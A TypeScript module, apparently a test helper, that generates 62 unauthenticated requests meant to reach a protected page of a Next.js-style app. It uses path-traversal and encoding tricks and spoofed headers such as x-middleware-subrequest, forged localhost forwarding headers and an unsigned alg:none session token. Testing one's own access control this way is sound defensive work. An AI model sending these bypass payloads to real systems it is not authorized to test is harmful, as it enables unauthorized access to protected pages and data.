/** A request for a page that is not ours to see, as it goes over the wire. */
export type Trick = { name: string; path: string; headers?: Record<string, string>; method?: string };

/** Other ways to write the address of a page (`p` begins with a slash). */
const spellings: Record<string, (p: string) => string> = {
  "as it is": (p) => p,
  "two slashes": (p) => `/${p}`,
  "a dot before": (p) => `/.${p}`,
  "a step back": (p) => `/login/..${p}`,
  "a step back from a file": (p) => `/icon.svg/..${p}`,
  "a step back from the API": (p) => `/api/health/../..${p}`,
  "a step back from the build": (p) => `/_next/static/../..${p}`,
  "a coded step back": (p) => `/login/%2e%2e${p}`,
  "a coded slash back": (p) => `/login%2f..%2f${p.slice(1)}`,
  "a parameter back": (p) => `/login/..;${p}`,
  "a slash after": (p) => `${p}/`,
  "two slashes after": (p) => `${p}//`,
  "a dot after": (p) => `${p}/.`,
  "a coded dot after": (p) => `${p}/%2e`,
  "a coded slash after": (p) => `${p}%2f`,
  "a parameter after": (p) => `${p};x=1`,
  "a semicolon and a file": (p) => `${p};/icon.svg`,
  "as data": (p) => `${p}.json`,
  "as a payload": (p) => `${p}.rsc`,
  "as text": (p) => `${p}.txt`,
  "as a script": (p) => `${p}.js`,
  "with an end of string": (p) => `${p}%00`,
  "with a blank": (p) => `${p}%20`,
  "with a tab": (p) => `${p}%09`,
  "with a new line": (p) => `${p}%0a`,
  "with a coded mark": (p) => `${p}%23`,
  "with a coded question": (p) => `${p}%3f`,
  "in capitals": (p) => p.toUpperCase(),
  "coded twice": (p) => `/%25${p.charCodeAt(1).toString(16)}${p.slice(2)}`,
  "its first letter coded": (p) => `/%${p.charCodeAt(1).toString(16)}${p.slice(2)}`,
  "a backslash": (p) => `/\\${p.slice(1)}`,
  "a coded backslash": (p) => `/%5c${p.slice(1)}`,
  "as a whole address": (p) => `http://127.0.0.1${p}`,
  "as data of the build": (p) => `/_next/data/development${p}.json`,
  "asked for as a payload": (p) => `${p}${p.includes("?") ? "&" : "?"}_rsc=1`,
};

const SEGMENTS = encodeURIComponent(JSON.stringify(["", {}, null, null, true]));

/** What a client may claim of itself, of the way it came, or of where it wants to be led. */
const claims: Record<string, Record<string, string>> = {
  "a payload": { rsc: "1" },
  "a payload looked up early": { rsc: "1", "next-router-prefetch": "1" },
  "a payload of a part": { rsc: "1", "next-router-segment-prefetch": "/_tree" },
  "a payload from within": { rsc: "1", "next-router-state-tree": SEGMENTS, "next-url": "/overview" },
  "a subrequest": { "x-middleware-subrequest": "src/proxy:src/proxy:src/proxy:src/proxy:src/proxy" },
  "a subrequest of old": {
    "x-middleware-subrequest": "middleware:middleware:middleware:middleware:middleware",
  },
  "a subrequest's id": { "x-middleware-subrequest-id": "x" },
  "passed by the proxy": { "x-middleware-next": "1" },
  "rewritten by the proxy": { "x-middleware-rewrite": "/overview" },
  "looked up by the proxy": { "x-middleware-prefetch": "1" },
  "a cookie by the proxy": {
    "x-middleware-set-cookie": "kept.session=x",
    "x-middleware-request-cookie": "kept.session=x",
  },
  "matched before": { "x-matched-path": "/overview" },
  "invoked before": {
    "x-invoke-path": "/overview",
    "x-invoke-status": "200",
    "x-invoke-output": "/overview",
  },
  resumed: { "next-resume": "1" },
  "data of a page": { "x-nextjs-data": "1" },
  "made anew": { "x-prerender-revalidate": "development" },
  "another address": { "x-original-url": "/login", "x-rewrite-url": "/login" },
  "forwarded from here": { "x-forwarded-for": "127.0.0.1", "x-real-ip": "127.0.0.1" },
  "forwarded for another host": { "x-forwarded-host": "localhost", "x-forwarded-proto": "https" },
  "forwarded from below": { "x-forwarded-prefix": "/admin" },
  "our own server's word": { "x-kept-address": "127.0.0.1", "x-kept": "1" },
  "a name and no password": { authorization: `Basic ${Buffer.from("admin:").toString("base64")}` },
  "a bearer of nothing": { authorization: "Bearer null" },
  "a session of nobody": { cookie: "kept.session=; __Host-kept.session=" },
  "a token that nobody signed": {
    cookie: `kept.session=${Buffer.from('{"alg":"none"}').toString("base64url")}.${Buffer.from('{"sub":"1","sid":"1"}').toString("base64url")}.`,
  },
  "a session of next-auth": { cookie: "next-auth.session-token=x; __Secure-next-auth.session-token=x" },
  "a method over another": { "x-http-method-override": "POST", "x-method-override": "POST" },
};

/** 62 ways to ask for a page without having signed in. */
export function tricksOn(page: string): Trick[] {
  return [
    ...Object.entries(spellings).map(([name, spell]) => ({ name, path: spell(page) })),
    ...Object.entries(claims).map(([name, headers]) => ({ name, path: page, headers })),
  ];
}
